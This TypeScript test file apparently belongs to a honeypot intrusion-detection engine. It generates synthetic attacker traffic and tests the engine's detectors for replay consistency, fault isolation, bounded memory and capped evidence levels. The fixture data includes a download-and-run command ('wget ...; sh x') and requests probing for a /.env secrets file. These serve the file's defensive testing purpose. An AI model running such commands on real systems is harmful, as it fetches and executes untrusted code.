import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import type { Fault } from '../kit/fault.ts';
import { type Event, parseEvent } from '../model/event.ts';
import { signalSchema } from '../model/signal.ts';
import { createAnalysis } from './analysis.ts';
import { defineDetector } from './detector.ts';
import { detectors } from './detectors/index.ts';
import { eventOf } from './event-fixture.ts';

// Makes `gc` known to contexts made from here on.
setFlagsFromString('--expose-gc');

const start = 1_750_000_000_000;
const options = z.strictObject({});

/** Many sources, all verbs that detectors look at, made by a fixed rule. */
function traffic(size: number): Event[] {
  return Array.from({ length: size }, (_, n): Event => {
    const head = {
      time: start + n * 37,
      session: `s${Math.floor(n / 9)}`,
      src: { ip: `192.0.2.${Math.floor(n / 9) % 7}`, port: 1_024 + n },
      sensor: `decoy-${n % 3}`,
    };
    const http = { ...head, protocol: 'http', dst: { ip: '198.51.100.1', port: 8080 } };
    switch (n % 5) {
      case 0:
        return eventOf({ kind: 'connect' }, { ...head, dst: { ip: '198.51.100.1', port: 20 + (n % 9) } });
      case 1:
        return eventOf({ kind: 'login', user: `u${n % 31}`, secret: 'x', ok: n % 50 === 1 }, head);
      case 2:
        return eventOf(
          { kind: 'command', input: n % 2 ? 'uname -a' : 'wget http://192.0.2.99/x; sh x' },
          head,
        );
      case 3:
        return eventOf(
          {
            kind: 'request',
            method: 'GET',
            target: `/.env?${n % 11}`,
            status: 404,
            headers: [['User-Agent', 'zgrab/0.x']],
          },
          http,
        );
      default:
        return eventOf({ kind: 'upload', sha256: '00'.repeat(32), size: n }, http);
    }
  });
}

describe('createAnalysis', () => {
  it('says on replay what it said live, and all of it is valid', () => {
    const events = traffic(5_000);
    const live = createAnalysis(detectors);
    const replay = createAnalysis(detectors);
    const said = events.flatMap((event) => live.push(event));
    // A replay reads the events back from where they were kept.
    const again = events.flatMap((event) => replay.push(parseEvent(JSON.parse(JSON.stringify(event)))));
    expect(again).toEqual(said);
    expect(new Set(said.map(({ detector }) => detector)).size).toBeGreaterThanOrEqual(5);
    expect(new Set(said.map(({ id }) => id)).size).toBe(said.length);
    for (const signal of said) signalSchema.parse(signal);
  });

  it('gives the same empty array where nothing is to be said', () => {
    const analysis = createAnalysis(detectors);
    const quiet = () => analysis.push(eventOf({ kind: 'close', durationMs: 1 }) as Event);
    expect(quiet()).toBe(quiet());
    expect(() => quiet().push(undefined as never)).toThrow();
  });

  it('holds a detector’s fault to one event of that detector', () => {
    const broken = defineDetector({
      name: 'broken',
      summary: 'Throws',
      on: ['connect'],
      options,
      start: () => () => {
        throw new Error('broken');
      },
    });
    const fine = defineDetector({
      name: 'fine',
      summary: 'Tells all',
      on: ['connect'],
      options,
      start: () => (event, ref) => ({
        subject: { type: 'ip', value: event.src.ip },
        confidence: 1,
        attack: [],
        says: 'x',
        because: [ref(), ref()],
      }),
    });
    const analysis = createAnalysis([broken, fine]);
    const event = eventOf({ kind: 'connect' }) as Event;
    expect(analysis.push(event)).toMatchObject([{ detector: 'fine', because: [event.id] }]);
    expect(analysis.faults()).toEqual({ broken: 1, fine: 0 });
  });

  it('names all wrong options at once', () => {
    const wrong = { bruteforce: { failures: 1, more: 2 }, spray: { accounts: 'x' }, nobody: {} };
    let fault: Fault | undefined;
    try {
      createAnalysis(detectors, { detectors: wrong });
    } catch (error) {
      fault = error as Fault;
    }
    expect(fault?.exit).toBe(78);
    expect(fault?.remedies.map(({ path }) => path).sort()).toEqual([
      'analysis.bruteforce',
      'analysis.bruteforce.failures',
      'analysis.nobody',
      'analysis.spray.accounts',
    ]);
  });

  it('stays bounded over a million sources', () => {
    // Follows few, so that what grows without a bound would show.
    const few = Object.fromEntries(detectors.map(({ name }) => [name, { sources: 5_000 }]));
    const analysis = createAnalysis(detectors, { detectors: few });
    const events = traffic(40);
    const collect = runInNewContext('gc') as () => void;
    collect();
    const before = process.memoryUsage().heapUsed;
    // Signals cost the most: all of the traffic for a while, then what only fills the state.
    const quiet = events.filter(({ kind }) => kind === 'connect' || kind === 'login');
    for (let n = 0; n < 1_000_000; n++) {
      const event = n < 20_000 ? events[n % 40]! : quiet[n % quiet.length]!;
      const ip = `${10 + (n >>> 16)}.${(n >>> 8) & 255}.${n & 255}.1`;
      analysis.push({ ...event, session: `s${n}`, src: { ip, port: 1 } });
    }
    collect();
    expect((process.memoryUsage().heapUsed - before) / 1e6).toBeLessThan(100);
    expect(Object.values(analysis.faults())).toEqual(detectors.map(() => 0));
  }, 120_000);
});

describe.each(detectors.map((detector) => ({ name: detector.name, detector })))('$name', ({ detector }) => {
  it('never says more than E1 of what proves nothing', () => {
    const analysis = createAnalysis([detector]);
    for (const event of traffic(3_000))
      for (const { evidence } of analysis.push({ ...event, handshake: event.time % 2 ? 'none' : 'relayed' }))
        expect(evidence).toBe('E1');
  });

  it('never says more than E2 of what a browser can be made to send', () => {
    const headers: [string, string][] = [
      ['Host', 'decoy.example'],
      ['User-Agent', 'Mozilla/5.0 (X11)'],
      ['Accept-Encoding', 'gzip'],
    ];
    const analysis = createAnalysis([detector]);
    for (const event of traffic(3_000)) {
      const http = { ...event, protocol: 'http', dst: { ip: '198.51.100.1', port: 8080 } };
      for (const { evidence } of analysis.push(http.kind === 'request' ? { ...http, headers } : http))
        expect(evidence <= 'E2').toBe(true);
    }
  });
});
